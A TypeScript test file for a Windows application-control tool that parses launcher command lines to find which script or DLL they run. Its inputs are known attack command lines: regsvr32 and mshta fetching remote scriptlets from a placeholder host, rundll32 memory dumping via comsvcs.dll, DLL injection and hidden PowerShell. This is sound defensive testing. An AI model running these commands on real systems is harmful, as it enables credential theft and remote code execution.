// What Windows command lines name as code (issue 12 classes 1 and 2), Windows path names (class 3), and the
// validator's view of Windows user space.
import { strict as assert } from 'node:assert';
import { test } from 'node:test';
import { loadPolicy, namedCode, normalizeWindowsPath, splitWindowsCommandLine } from '../src/index.ts';

const code = (image: string, cmd: string, cwd?: string) => namedCode(image, cmd, cwd).map((c) => `${c.kind}${c.remote ? ' remote' : ''} ${c.path}`);

test('command lines split as CommandLineToArgvW does', () => {
  assert.deepEqual(splitWindowsCommandLine('"C:\\Program Files\\x.exe" a "b c" d\\"e "f\\\\" g'), ['C:\\Program Files\\x.exe', 'a', 'b c', 'd"e', 'f\\', 'g']);
  assert.deepEqual(splitWindowsCommandLine('  x   ""  y'), ['x', '', 'y']);
});

test('script hosts: the script named on the command line', () => {
  assert.deepEqual(code('wscript.exe', '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\a\\Downloads\\x.vbs" arg'), ['script C:\\Users\\a\\Downloads\\x.vbs']);
  assert.deepEqual(code('cscript.exe', 'cscript //nologo /e:jscript testme.js', 'C:\\Users\\b\\Desktop\\'), ['script C:\\Users\\b\\Desktop\\testme.js']);
  assert.deepEqual(code('cscript.exe', 'cscript testme.js'), [], 'a relative name without a working folder names nothing');
  assert.deepEqual(code('wscript.exe', 'wscript /e:JScript.Encode %TEMP%\\info.txt'), ['script C:\\Users\\user\\AppData\\Local\\Temp\\info.txt']);
  assert.deepEqual(code('mshta.exe', 'mshta.exe "C:\\x\\a.hta" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}'), ['script C:\\x\\a.hta']);
  assert.deepEqual(code('mshta.exe', 'mshta vbscript:Execute("x")'), []);
  assert.deepEqual(code('mshta.exe', 'mshta.exe javascript:a=GetObject("script:https://e.example/x.sct").Exec();close();'), ['script remote https://e.example/x.sct']);
  assert.deepEqual(code('mshta.exe', 'mshta https://e.example/t.txt'), ['script remote https://e.example/t.txt']);
  assert.deepEqual(code('cscript.exe', 'cscript /b C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs localhost script:https://e.example/t.sct'),
    ['script remote https://e.example/t.sct', 'script C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs']);
  assert.deepEqual(code('hh.exe', '"C:\\Windows\\hh.exe" C:\\Users\\a\\Desktop\\Fax Record N104F.chm'), ['script C:\\Users\\a\\Desktop\\Fax Record N104F.chm']);
  assert.deepEqual(code('python.exe', 'python -u -W ignore fetch.py --all', 'C:\\p'), ['script C:\\p\\fetch.py']);
  assert.deepEqual(code('python.exe', 'python -c "import os"', 'C:\\p'), []);
  assert.deepEqual(code('python.exe', 'python -m http.server', 'C:\\p'), []);
});

test('PowerShell: -File, -Command invoking a script, positional (pwsh: a file), never -EncodedCommand', () => {
  assert.deepEqual(code('powershell.exe', 'powershell -nop -ep bypass -w hidden -File "C:\\Users\\a\\x.ps1" -q'), ['script C:\\Users\\a\\x.ps1']);
  assert.deepEqual(code('powershell.exe', "powershell -c \"& 'C:\\Users\\Public\\run.ps1' -q\""), ['script C:\\Users\\Public\\run.ps1']);
  assert.deepEqual(code('powershell.exe', 'powershell -c ". .\\lib.ps1; Go"', 'C:\\w'), ['script C:\\w\\lib.ps1']);
  assert.deepEqual(code('powershell.exe', 'powershell C:\\s\\a.ps1'), ['script C:\\s\\a.ps1']);
  assert.deepEqual(code('powershell.exe', 'powershell -c Get-Content C:\\Users\\a\\x.ps1'), [], 'reading a script is not running it');
  assert.deepEqual(code('powershell.exe', 'powershell -enc SQBFAFgA'), []);
  assert.deepEqual(code('pwsh.exe', 'pwsh .\\tools\\c.ps1', 'C:\\Users\\a\\Desktop\\'), ['script C:\\Users\\a\\Desktop\\tools\\c.ps1']);
});

test('cmd: the batch file after /c or /k, not redirections or other commands', () => {
  assert.deepEqual(code('cmd.exe', 'C:\\Windows\\system32\\cmd.exe /c ""C:\\Users\\a\\Temp\\art.bat" arg"'), ['script C:\\Users\\a\\Temp\\art.bat']);
  assert.deepEqual(code('cmd.exe', '"C:\\Windows\\System32\\cmd.exe" /C "C:\\ProgramData\\ssh\\runtests.bat" '), ['script C:\\ProgramData\\ssh\\runtests.bat']);
  assert.deepEqual(code('cmd.exe', 'cmd /Q /c C:\\Windows\\TEMP\\execute.bat'), ['script C:\\Windows\\TEMP\\execute.bat']);
  assert.deepEqual(code('cmd.exe', 'cmd /c test.bat', 'C:\\Users\\a\\Downloads\\'), ['script C:\\Users\\a\\Downloads\\test.bat']);
  assert.deepEqual(code('cmd.exe', 'cmd /c call x.cmd', 'C:\\d'), ['script C:\\d\\x.cmd']);
  assert.deepEqual(code('cmd.exe', 'cmd /c echo a > C:\\Users\\a\\x.bat'), []);
  assert.deepEqual(code('cmd.exe', 'cmd /c powershell -f x.ps1'), []);
});

test('proxy loaders: the module named on the command line', () => {
  assert.deepEqual(code('rundll32.exe', 'rundll32.exe "C:\\Users\\a\\AppData\\Local\\x\\p.dll",DllRegisterServer'), ['module C:\\Users\\a\\AppData\\Local\\x\\p.dll']);
  assert.deepEqual(code('rundll32.exe', 'rundll32.exe  .\\Outflank-Dumpert-DLL.dll, Dump', 'C:\\Users\\adm\\Desktop\\x64\\'), ['module C:\\Users\\adm\\Desktop\\x64\\Outflank-Dumpert-DLL.dll']);
  assert.deepEqual(code('rundll32.exe', 'rundll32 comsvcs.dll MiniDump 1 x full', 'C:\\Users\\a'), ['module C:\\Windows\\System32\\comsvcs.dll']);
  assert.deepEqual(code('rundll32.exe', 'rundll32 payload.dll,Start', 'C:\\Users\\a\\Downloads'), ['module C:\\Users\\a\\Downloads\\payload.dll']);
  assert.deepEqual(code('rundll32.exe', '"C:\\Windows\\SysWOW64\\rundll32.exe" "C:\\Windows\\SysWOW64\\shell32.dll",#44 "C:\\Users\\a\\Downloads\\i.cpl",'),
    ['module C:\\Windows\\SysWOW64\\shell32.dll', 'module C:\\Users\\a\\Downloads\\i.cpl']);
  assert.deepEqual(code('rundll32.exe', 'rundll32 advpack.dll,LaunchINFSection C:\\Users\\a\\x.inf,DefaultInstall'), ['module C:\\Windows\\System32\\advpack.dll', 'script C:\\Users\\a\\x.inf']);
  assert.deepEqual(code('rundll32.exe', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://e.example/t")'), ['script remote https://e.example/t']);
  assert.deepEqual(code('rundll32.exe', "rundll32.exe  '\\\\\\\\172.16.205.1\\\\pwn\\\\test.dll,0'"), ['module \\\\\\\\172.16.205.1\\\\pwn\\\\test.dll']);
  assert.deepEqual(code('regsvr32.exe', 'regsvr32.exe /s /u /i:https://e.example/calc.sct scrobj.dll'), ['script remote https://e.example/calc.sct', 'module C:\\Windows\\System32\\scrobj.dll']);
  assert.deepEqual(code('regsvr32.exe', 'regsvr32 /s /i:C:\\Users\\a\\x.sct scrobj.dll'), ['script C:\\Users\\a\\x.sct', 'module C:\\Windows\\System32\\scrobj.dll']);
  assert.deepEqual(code('regsvr32.exe', 'regsvr32 /s /n /i:U C:\\ProgramData\\x.dll'), ['module C:\\ProgramData\\x.dll']);
  assert.deepEqual(code('installutil.exe', 'InstallUtil.exe /logfile= /LogToConsole=false /u c:\\ProgramData\\G.dll'), ['module c:\\ProgramData\\G.dll']);
  assert.deepEqual(code('regasm.exe', 'regasm.exe /U T1121.dll', 'C:\\AtomicRedTeam\\'), ['module C:\\AtomicRedTeam\\T1121.dll']);
  assert.deepEqual(code('odbcconf.exe', 'odbcconf.exe /a {REGSVR C:\\Users\\Public\\o.dll}'), ['module C:\\Users\\Public\\o.dll']);
  assert.deepEqual(code('control.exe', '"C:\\Windows\\System32\\control.exe" "C:\\Users\\a\\Downloads\\I.cpl",'), ['module C:\\Users\\a\\Downloads\\I.cpl']);
  assert.deepEqual(code('control.exe', 'control.exe /name Microsoft.BackupAndRestoreCenter'), []);
  assert.deepEqual(code('control.exe', 'control desk.cpl', 'C:\\Users\\a'), ['module C:\\Windows\\System32\\desk.cpl']);
  assert.deepEqual(code('cmstp.exe', 'cmstp.exe /s /au C:\\Users\\a\\x.inf'), ['module C:\\Users\\a\\x.inf']);
  assert.deepEqual(code('cmstp.exe', 'cmstp.exe /ni /s https://e.example/x.inf'), ['module remote https://e.example/x.inf']);
  assert.deepEqual(code('msiexec.exe', 'msiexec /y "C:\\Users\\a\\k.dll"'), ['module C:\\Users\\a\\k.dll']);
  assert.deepEqual(code('msiexec.exe', 'msiexec /z C:\\Users\\a\\k.dll'), ['module C:\\Users\\a\\k.dll']);
  assert.deepEqual(code('msiexec.exe', 'msiexec /i C:\\Users\\a\\t.msi'), []);
  assert.deepEqual(code('mavinject.exe', 'mavinject.exe 3440 /INJECTRUNNING C:\\ProgramData\\T.dll'), ['module C:\\ProgramData\\T.dll']);
  assert.deepEqual(code('wmic.exe', 'wmic os get /format:"https://e.example/x.xsl"'), ['script remote https://e.example/x.xsl']);
  assert.deepEqual(code('wmic.exe', 'wmic os get /format:csv'), []);
  assert.deepEqual(code('notepad.exe', 'notepad C:\\Users\\a\\x.vbs'), []);
});

test('Windows names of one file are one name', () => {
  assert.equal(normalizeWindowsPath('\\\\?\\C:\\Users\\A\\x.exe'), 'c:/users/a/x.exe');
  assert.equal(normalizeWindowsPath('\\??\\C:\\x'), 'c:/x');
  assert.equal(normalizeWindowsPath('\\\\.\\C:\\x'), 'c:/x');
  assert.equal(normalizeWindowsPath('\\\\?\\UNC\\srv\\share\\x.exe'), '//srv/share/x.exe');
  assert.equal(normalizeWindowsPath('\\Device\\Mup\\srv\\share\\x.exe'), '//srv/share/x.exe');
  assert.equal(normalizeWindowsPath('\\Device\\HarddiskVolume3\\Windows\\x.exe'), 'c:/windows/x.exe');
  assert.equal(normalizeWindowsPath('C:\\PROGRA~1\\Vendor\\a.exe'), 'c:/program files/vendor/a.exe');
  assert.equal(normalizeWindowsPath('\\\\.\\pipe\\x'), 'pipe/x', 'a pipe is not a file path');
});

test('the validator: trusted paths and installers must lie in Windows system space', () => {
  const text = (extra: string) => `omamori: 1\nname: t\nversion: 1\nmode: enforce\n${extra}`;
  const r = loadPolicy(text('trust:\n  paths: ["C:\\\\Tools\\\\**", "%PROGRAMFILES%/Vendor/**", "D:\\\\Apps\\\\**"]\npersistence:\n  trustedInstallers: ["C:\\\\Users\\\\Public\\\\setup.exe", "%WINDIR%/System32/msiexec.exe"]\n'));
  assert.deepEqual(r.problems.map((p) => `${p.code} ${p.path.join('.')}`), [
    'OM104 trust.paths.0', 'OM104 trust.paths.2', 'OM110 persistence.trustedInstallers.0',
  ]);
  const extended = loadPolicy(text('userSpace:\n  systemFolders: ["%WINDIR%/**", "%PROGRAMFILES%/**", "C:/Tools/**"]\ntrust:\n  paths: ["C:/Tools/**"]\n'));
  assert.deepEqual(extended.problems, [], 'a folder the administrator declares system space may be trusted by path');
  assert.deepEqual(loadPolicy(text('')).policy?.userSpace.systemFolders, ['%WINDIR%/**', '%PROGRAMFILES%/**', '%PROGRAMFILES(X86)%/**']);
});
